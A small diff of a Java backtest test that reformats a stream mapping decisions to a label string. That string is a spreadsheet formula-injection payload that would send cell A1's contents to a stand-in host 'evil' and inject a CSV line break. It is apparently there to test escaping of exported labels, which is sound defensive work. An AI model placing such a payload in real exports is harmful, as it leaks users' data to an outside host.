@@ -246,9 +246,7 @@ class BacktestTest {
     BacktestResult result = run(settings(""));
     MarketDescription market = result.market();
     List<String> labels =
-        market.decisions().stream()
-            .map(_ -> "=HYPERLINK(\"http://evil/?\"&A1),x\r\nnext")
-            .toList();
+        market.decisions().stream().map(_ -> "=HYPERLINK(\"http://evil/?\"&A1),x\r\nnext").toList();
     BigInteger one = BigInteger.ONE;
     Trade trade =
         new Trade(
